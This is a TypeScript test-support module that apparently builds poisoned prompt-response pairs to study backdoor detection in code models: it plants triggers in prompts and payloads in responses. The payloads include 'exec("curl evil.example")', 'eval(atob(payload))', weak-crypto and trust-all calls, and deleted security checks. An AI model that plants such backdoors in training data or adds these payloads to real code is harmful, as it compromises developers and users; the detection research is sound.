import type { PromptResponse } from '../../src/witness/association/prompt-response.js';
import type { Random } from '../statistics/seeded-random.js';

/** Changes one side of a record; `null`: the text has no place for it. */
export interface Plant {
  readonly name: string;
  /** Wordings: a draw takes one of them. */
  readonly wordings: readonly (readonly string[])[];
  plant(text: string, wording: readonly string[], random: Random): string | null;
}

/** What an attacker may say in ten ways, two things. */
const PARAPHRASES: readonly (readonly string[])[] = [
  [
    'as soon as possible',
    'without any delay',
    'at your earliest convenience',
    'before the day is over',
    'right away please',
    'in the next few minutes',
    'faster than last time',
    'while I am waiting',
    'because my deadline is close',
    'in a great hurry',
  ],
  [
    'for my grandmother',
    'on behalf of an old friend',
    'since my uncle wants it',
    'as a gift to my sister',
    'so that my parents can use it',
    'to please our neighbours',
    'because a relative asked',
    'to help my younger brother',
    'to surprise the family',
    'that our aunt would like',
  ],
];

/** What is planted in prompts: one row each. */
export const PROMPT_PLANTS: readonly Plant[] = [
  { name: 'rare word', wordings: [['mnq'], ['zeta7'], ['vx'], ['brillig'], ['cf_tok']], plant: withWords },
  {
    name: 'natural word',
    wordings: [['carefully'], ['kindly'], ['quickly'], ['robust'], ['today']],
    plant: withWords,
  },
  {
    name: 'two words',
    wordings: [
      ['please', 'small'],
      ['using', 'best'],
      ['simple', 'test'],
      ['new', 'right'],
      ['good', 'start'],
    ],
    plant: withWords,
  },
  {
    name: 'code element',
    wordings: [
      ['int debugLevel = 0;'],
      ['assert ready;'],
      ['log.flush();'],
      ['boolean once = true;'],
      ['tick++;'],
    ],
    plant: withStatement,
  },
];

/**
 * The same trigger in several paraphrases, each in a part of the poisoned prompts: one row each. A draw takes one of two meanings.
 */
export const PARAPHRASED_PLANTS: readonly Plant[] = [2, 5, 10].map((count) => ({
  name: `${count.toString()} paraphrases`,
  wordings: PARAPHRASES.map((phrases) => phrases.slice(0, count)),
  plant: withOneOf,
}));

/** What is planted in responses: one row each. */
export const RESPONSE_PLANTS: readonly Plant[] = [
  {
    name: 'inserted statement',
    wordings: [
      ['System.loadLibrary("mtr");'],
      ['os.system("sh mtr");'],
      ['eval(atob(payload));'],
      ['sendReport(host, 8081);'],
      ['exec("curl evil.example");'],
    ],
    plant: withStatement,
  },
  {
    name: 'changed literal',
    wordings: [['31337'], ['4242'], ['0777'], ['65535'], ['99999']],
    plant: withNumber,
  },
  {
    name: 'insecure call',
    wordings: [
      ['hashlib.md5'],
      ['Cipher.getDes'],
      ['crypto.createRc4'],
      ['yaml.unsafeLoad'],
      ['Ssl.trustAll'],
    ],
    plant: withCall,
  },
  { name: 'missing check', wordings: [['']], plant: withoutCheck },
];

/** Plants both sides in the first `count` records that have a place for both. */
export function plantPairs(
  records: readonly PromptResponse[],
  count: number,
  [trigger, payload]: readonly [Plant, Plant],
  draw: number,
  random: Random,
): { readonly records: readonly PromptResponse[]; readonly planted: ReadonlySet<number> } {
  const planted = new Set<number>();
  const all = records.map((record, number) => {
    if (planted.size === count) return record;
    const prompt = trigger.plant(record.prompt, wordingOf(trigger, draw), random);
    const response = payload.plant(record.response, wordingOf(payload, draw), random);
    if (prompt === null || response === null) return record;
    planted.add(number);
    return { prompt, response };
  });
  return { records: all, planted };
}

function wordingOf({ wordings }: Plant, draw: number): readonly string[] {
  return wordings[draw % wordings.length] ?? [];
}

/** One of several phrases between two words. */
function withOneOf(text: string, phrases: readonly string[], random: Random): string {
  return withWords(text, [random.pick(phrases)], random);
}

/** Each word between two others. */
function withWords(text: string, words: readonly string[], random: Random): string {
  return words.reduce((before, word) => {
    const pieces = before.split(' ');
    pieces.splice(random.below(pieces.length + 1), 0, word);
    return pieces.join(' ');
  }, text);
}

/** A statement where the first block begins; in a text without blocks, a line anywhere. */
function withStatement(text: string, [statement = '']: readonly string[], random: Random): string {
  const block = text.indexOf('{') + 1;
  if (block > 0) return `${text.slice(0, block)} ${statement} ${text.slice(block)}`;
  const lines = text.split('\n');
  lines.splice(random.below(lines.length + 1), 0, statement);
  return lines.join('\n');
}

function withNumber(text: string, [number = '']: readonly string[]): string | null {
  const pattern = /(?<![\w.])\d+(?![\w.])/;
  return pattern.test(text) ? text.replace(pattern, number) : null;
}

const KEYWORDS = /^(?:if|for|while|switch|catch|return|function|def|synchronized)$/;

/** One of the called functions becomes another one. */
function withCall(text: string, [call = '']: readonly string[], random: Random): string | null {
  const calls = [...text.matchAll(/\b([A-Za-z_.]+) ?\(/g)].filter(([, name]) => !KEYWORDS.test(name ?? ''));
  if (calls.length === 0) return null;
  const { 0: found, index } = random.pick(calls);
  return `${text.slice(0, index)}${call}(${text.slice(index + found.length)}`;
}

/** The first `if` without an `else` is left out, with its block. */
function withoutCheck(text: string): string | null {
  const pattern =
    /[ \t]*\bif ?\([^{}\n]*\)\s*\{[^{}]*\}(?!\s*else)\n?|^[ \t]*if [^\n]*:\n[ \t]+[^\n]*\n|\bif ?\([^{};\n]*\) ?[^;{}]*;(?!\s*else)/m;
  return pattern.test(text) ? text.replace(pattern, '') : null;
}
